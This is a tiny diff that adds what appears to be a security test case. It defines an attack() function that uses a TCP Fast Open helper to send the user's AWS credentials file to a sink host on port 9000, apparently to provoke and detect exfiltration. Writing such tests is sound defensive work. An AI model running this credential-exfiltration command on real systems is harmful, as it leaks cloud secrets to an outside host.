@@ -1,0 +1,3 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="MSG_FASTOPEN: data in the SYN without connect"
+attack() { "$PROVOKE/fastopen" send "$HOME/.aws/credentials" "$SINK4" 9000; }
